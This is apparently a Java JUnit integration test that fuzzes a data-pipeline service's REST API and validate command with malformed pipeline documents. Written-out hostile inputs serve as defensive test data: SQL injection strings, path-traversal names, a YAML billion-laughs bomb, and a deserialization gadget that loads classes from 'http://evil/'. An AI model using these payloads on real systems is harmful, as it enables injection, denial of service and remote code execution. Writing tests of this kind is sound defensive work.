package runtime;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.dataformat.yaml.YAMLMapper;
import org.junit.jupiter.api.Test;
import testsupport.RunningTributary;

import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Stream;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Bad input: a corpus of malformed pipeline documents, made by mutating valid ones (wrong types, unknown and missing
 * keys, bad {@code where}, SQL injection attempts in table names and {@code where}, names with {@code ../}, huge and
 * hostile documents), sent over REST and to {@code validate}: each is answered with a 4xx that names the key, none
 * starts a pipeline or writes a file, and the server stays healthy. Then every operation of the OpenAPI document is
 * called with wrong methods, content types, bodies and path parameters: never a 5xx, a stack trace or a secret.
 */
class BadInputIT {

    static final ObjectMapper JSON = new ObjectMapper();
    static final YAMLMapper YAML = new YAMLMapper();
    static final String SECRET = "s3cr3t-pw-!";

    static final List<String> VALID = List.of("""
            pipeline: orders
            source: {type: postgres, host: db.example, port: 5432, database: shop, user: cdc, password: "%1$s"}
            mode: full-and-incremental
            objects:
              - {table: public.orders, topic: shop.orders, where: "amount > 10 AND status <> 'draft'", columns: [id, amount, status]}
              - {table: "public.order_*", topic: "shop.{table}", shardingColumns: [customer_id]}
            format: {type: canal}
            batch: {maxEvents: 500, maxWaitMs: 100}
            errors: {retries: 3, retryDelayMs: 100, maxRetryDelayMs: 1000}
            sink: {type: kafka, brokers: "k1:9092,k2:9092", options: {lingerMs: 20}}
            """.formatted(SECRET), """
            pipeline: items
            source: {type: mariadb, host: db.example, port: 3306, user: cdc, password: "%1$s"}
            mode: incremental
            objects: [{table: shop.items, topic: shop_items}]
            format: oms-default
            sink: {type: rocketmq, namesrv: "ns:9876", producerGroup: g1, options: {sendRetries: 2}}
            """.formatted(SECRET), """
            pipeline: copy
            source: {type: postgres, host: db.example, port: 5432, database: shop, user: cdc, password: "%1$s"}
            objects: [{table: public.t, target: archive.t}]
            sink: {type: jdbc, url: "jdbc:postgresql://t.example/db", user: w, password: "%1$s", autoCreate: true}
            """.formatted(SECRET), """
            pipeline: files
            source: {type: postgres, host: db.example, port: 5432, database: shop, user: cdc, password: "%1$s"}
            objects: [{table: public.t, path: "archive/{table}"}]
            sink: {type: hdfs, uri: "hdfs://nn:8020", path: /data, fileFormat: parquet, rollRecords: 1000}
            """.formatted(SECRET));

    /** Mutations of one valid document: each leaves it invalid. */
    static List<String> mutants(String valid, Random random) throws Exception {
        JsonNode doc = YAML.readTree(valid);
        List<String> out = new ArrayList<>();
        List<String> paths = new ArrayList<>();
        collect(doc, "", paths);
        for (String path : paths) {
            JsonNode value = doc.at(path);
            // wrong types: a map, a list, a number, a text where the key wants something else
            for (JsonNode wrong : new JsonNode[]{JSON.createObjectNode().put("x", 1), JSON.createArrayNode().add(1).add("two"),
                    JsonNodeFactory.instance.numberNode(-7), JsonNodeFactory.instance.textNode("not-a-" + random.nextInt(99))}) {
                if (sameKind(value, wrong) || path.endsWith("/password") || path.endsWith("/v") || isFreeText(path)) {
                    continue;
                }
                out.add(yaml(replace(doc, path, wrong)));
            }
        }
        // unknown keys at every level
        for (String at : List.of("", "/source", "/sink", "/objects/0", "/batch", "/errors")) {
            if (!doc.at(at).isMissingNode()) {
                ObjectNode copy = doc.deepCopy();
                ((ObjectNode) (at.isEmpty() ? copy : copy.at(at))).put("colour" + random.nextInt(9), "blue");
                out.add(yaml(copy));
            }
        }
        // missing required keys
        for (String at : List.of("/pipeline", "/source", "/objects", "/sink", "/source/type", "/source/host", "/sink/type", "/objects/0/table")) {
            if (!doc.at(at).isMissingNode()) {
                out.add(yaml(remove(doc, at)));
            }
        }
        // hostile values
        for (String where : List.of("amount >", "1; DROP TABLE orders", "id IN (", "x' OR '1'='1", "pg_sleep(10) > 0",
                "amount > 10; DELETE FROM t", "(SELECT 1) = 1", "nosuchfunc(id) = 1")) {
            out.add(yaml(replace(doc, "/objects/0/where", JsonNodeFactory.instance.textNode(where))));
        }
        for (String table : List.of("public.t; DROP TABLE x", "public.t' --", "public.\"t\"\"", "../../etc.passwd", "a.b.c.d", "public.", "")) {
            out.add(yaml(replace(doc, "/objects/0/table", JsonNodeFactory.instance.textNode(table))));
        }
        for (String name : List.of("../evil", "../../tmp/evil", "a/b", "..", "Orders", "x".repeat(200), "with space", "naïve", "")) {
            out.add(yaml(replace(doc, "/pipeline", JsonNodeFactory.instance.textNode(name))));
        }
        return out;
    }

    /** Documents that are not pipelines at all. */
    static List<String> hostile() {
        List<String> out = new ArrayList<>();
        out.add("");
        out.add("   ");
        out.add("[1, 2, 3]");
        out.add("pipeline: [unclosed");
        out.add("pipeline: x\n  bad: indentation\n");
        out.add("{\"pipeline\": \"x\",");
        out.add("\u0000\u0001\u0002");
        out.add("pipeline: " + "x".repeat(5_000_000)); // a huge document
        StringBuilder bomb = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (char c = 'b'; c <= 'k'; c++) {
            bomb.append(c).append(": &").append(c).append(" [*").append((char) (c - 1)).append(",*").append((char) (c - 1))
                    .append(",*").append((char) (c - 1)).append(",*").append((char) (c - 1)).append("]\n");
        }
        out.add(bomb.toString()); // billion laughs
        StringBuilder many = new StringBuilder("pipeline: many\nsource: {type: postgres, host: h, port: 1, database: d, user: u, password: p}\n"
                + "sink: {type: kafka, brokers: \"k:1\"}\nobjects:\n");
        for (int i = 0; i < 20_000; i++) {
            many.append("  - {table: \"public.t").append(i).append("\", topic: t, where: \"a >\"}\n");
        }
        out.add(many.toString());
        out.add("pipeline: x\nsource: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil/\"]]]]\n");
        return out;
    }

    @Test
    void malformedDocumentsAreRefusedNamingTheKeyAndChangeNothing() throws Exception {
        Random random = new Random(42);
        List<String> corpus = new ArrayList<>();
        for (String valid : VALID) {
            corpus.addAll(mutants(valid, random));
        }
        corpus.addAll(hostile());
        assertTrue(corpus.size() >= 200, "a corpus of " + corpus.size());
        try (RunningTributary t = new RunningTributary(Map.of("application.properties", "# none\n"))) {
            Set<String> before = files(t.dir);
            int refused = 0;
            List<String> problems = new ArrayList<>();
            for (String doc : corpus) {
                for (String contentType : List.of("application/yaml", "application/json")) {
                    HttpResponse<String> r = send(t.port, "POST", "/api/pipelines", doc, contentType);
                    String problem = problem(r, doc);
                    if (problem != null) {
                        problems.add(problem);
                    } else {
                        refused++;
                    }
                }
            }
            assertEquals(List.of(), problems.subList(0, Math.min(10, problems.size())), problems.size() + " documents answered wrongly");
            assertEquals(2 * corpus.size(), refused);
            assertEquals("[]", t.get("/api/pipelines").body(), "no pipeline was created");
            assertEquals(before, files(t.dir), "no file was written");
            assertFalse(Files.exists(Path.of("/tmp/evil.yaml")) || Files.exists(t.dir.resolve("evil.yaml")), "nothing outside");
            assertEquals(200, t.get("/api/health").statusCode());
            System.out.printf("bad input: %d malformed documents, each refused over REST as YAML and as JSON with a 4xx naming the key%n",
                    corpus.size());

            // the same corpus through `validate`: exit 2, the file and the key named
            Path dir = Files.createTempDirectory("tributary-validate");
            int i = 0;
            for (String doc : corpus) {
                Path file = dir.resolve("doc" + (i++) + ".yaml");
                Files.writeString(file, doc);
                ByteArrayOutputStream out = new ByteArrayOutputStream();
                ByteArrayOutputStream err = new ByteArrayOutputStream();
                int exit = app.Tributary.run(new String[]{"validate", file.toString()}, new PrintStream(out, true, StandardCharsets.UTF_8),
                        new PrintStream(err, true, StandardCharsets.UTF_8));
                String said = err.toString(StandardCharsets.UTF_8);
                assertEquals(2, exit, "validate " + doc.substring(0, Math.min(2000, doc.length())) + ": " + said);
                assertTrue(said.contains(file.getFileName().toString()), said);
                assertFalse(said.contains(SECRET) || said.contains("\tat "), said);
            }
            testsupport.Dirs.delete(dir);
        }
    }

    @Test
    void everyOperationOfTheOpenApiDocumentSurvivesWrongInput() throws Exception {
        try (RunningTributary t = new RunningTributary(Map.of("pipelines/orders.yaml", VALID.get(0).replace("db.example", "127.0.0.1")
                .replace("port: 5432", "port: 1").replace("k1:9092,k2:9092", "127.0.0.1:1")))) {
            JsonNode api = JSON.readTree(t.get("/api/openapi.json").body());
            List<String> problems = new ArrayList<>();
            int calls = 0;
            for (Iterator<Map.Entry<String, JsonNode>> it = api.get("paths").fields(); it.hasNext(); ) {
                String template = it.next().getKey();
                for (String name : List.of("orders", "nope", "..%2F..%2Fetc", "%2e%2e", "x".repeat(2000), "%00", "%E2%9C%93", "a%20b")) {
                    String path = template.replace("{name}", name).replace("{id}", name).replace("{action}", name);
                    for (String method : List.of("GET", "POST", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS")) {
                        for (String[] body : new String[][]{{null, null}, {"{", "application/json"}, {"pipeline: [", "application/yaml"},
                                {"<xml/>", "application/xml"}, {"\u0000\u00ff", "application/octet-stream"}, {"[]", "text/plain"}}) {
                            if (method.equals("DELETE") && name.equals("orders")) {
                                continue; // deleting the one pipeline is a valid call; done last
                            }
                            HttpResponse<String> r = send(t.port, method, path, body[0], body[1]);
                            calls++;
                            if (r.statusCode() >= 500 && !(path.endsWith("/health") && r.statusCode() == 503)) {
                                problems.add(method + " " + abbreviate(path) + " " + body[1] + " → " + r.statusCode() + " " + abbreviate(r.body()));
                            }
                            if (r.body().contains(SECRET) || isStackTrace(r.body())) {
                                problems.add(method + " " + abbreviate(path) + " → a secret or a stack trace: " + abbreviate(r.body()));
                            }
                        }
                    }
                }
            }
            assertEquals(List.of(), problems.subList(0, Math.min(10, problems.size())), problems.size() + " of " + calls + " calls answered badly");
            assertTrue(t.get("/api/pipelines/orders").body().contains("\"name\":\"orders\""), "the pipeline is still there");
            System.out.printf("REST fuzzing: %d calls over %d paths of the OpenAPI document, no 5xx, no stack trace, no secret%n",
                    calls, api.get("paths").size());
        }
    }

    /** Null when the answer is right for a malformed document: a 4xx, JSON naming a key, no secret, no stack trace. */
    static String problem(HttpResponse<String> r, String doc) {
        String what = abbreviate(doc) + " → " + r.statusCode() + " " + abbreviate(r.body());
        if (r.statusCode() < 400 || r.statusCode() >= 500) {
            return what;
        }
        if (r.body().contains(SECRET) || isStackTrace(r.body())) {
            return "secret or stack trace: " + what;
        }
        try {
            JsonNode answer = JSON.readTree(r.body());
            if (r.statusCode() == 400 && !(answer.isArray() && !answer.isEmpty() && answer.get(0).hasNonNull("key")
                    && !answer.get(0).get("key").asText().isBlank() && answer.get(0).hasNonNull("reason"))) {
                return "no key named: " + what;
            }
        } catch (Exception notJson) {
            return "not JSON: " + what;
        }
        return null;
    }

    /** A Java stack trace in an answer: frames or a cause chain (an exception's name in a check's detail is not one). */
    static boolean isStackTrace(String body) {
        return body.contains("\tat ") || body.contains("\\tat ") || body.contains("Caused by: ") || body.matches("(?s).*\\bat [a-z]+\\.[a-z]+\\.[\\w.$]+\\(\\w+\\.java:\\d+\\).*");
    }

    static HttpResponse<String> send(int port, String method, String path, String body, String contentType) throws Exception {
        HttpRequest.Builder b = HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + path))
                .method(method, body == null ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofString(body));
        if (contentType != null) {
            b.header("Content-Type", contentType);
        }
        return HttpClient.newHttpClient().send(b.build(), HttpResponse.BodyHandlers.ofString());
    }

    static Set<String> files(Path dir) throws Exception {
        try (Stream<Path> all = Files.walk(dir)) {
            return new TreeSet<>(all.map(p -> dir.relativize(p).toString()).toList());
        }
    }

    static String abbreviate(String s) {
        s = s.replace("\n", "⏎");
        return s.length() > 160 ? s.substring(0, 160) + "…(" + s.length() + ")" : s;
    }

    private static void collect(JsonNode node, String path, List<String> paths) {
        if (!path.isEmpty()) {
            paths.add(path);
        }
        if (node.isObject()) {
            node.fields().forEachRemaining(f -> collect(f.getValue(), path + "/" + f.getKey(), paths));
        } else if (node.isArray()) {
            for (int i = 0; i < node.size(); i++) {
                collect(node.get(i), path + "/" + i, paths);
            }
        }
    }

    private static boolean sameKind(JsonNode a, JsonNode b) {
        return a.getNodeType() == b.getNodeType() || (a.isNumber() && b.isNumber());
    }

    /** Keys whose text is anyone's choice (a text there is valid): they get no wrong-type text mutant. */
    private static boolean isFreeText(String path) {
        return List.of("/host", "/user", "/database", "/topic", "/producerGroup", "/brokers", "/namesrv", "/url", "/path", "/uri",
                "/target").stream().anyMatch(path::endsWith);
    }

    private static JsonNode replace(JsonNode doc, String path, JsonNode value) {
        JsonNode copy = doc.deepCopy();
        int slash = path.lastIndexOf('/');
        JsonNode parent = slash == 0 ? copy : copy.at(path.substring(0, slash));
        String last = path.substring(slash + 1);
        if (parent instanceof ObjectNode o) {
            o.set(last, value);
        } else if (parent instanceof ArrayNode a) {
            a.set(Integer.parseInt(last), value);
        }
        return copy;
    }

    private static JsonNode remove(JsonNode doc, String path) {
        JsonNode copy = doc.deepCopy();
        int slash = path.lastIndexOf('/');
        JsonNode parent = slash == 0 ? copy : copy.at(path.substring(0, slash));
        if (parent instanceof ObjectNode o) {
            o.remove(path.substring(slash + 1));
        }
        return copy;
    }

    private static String yaml(JsonNode doc) throws Exception {
        return YAML.writeValueAsString(doc);
    }

}
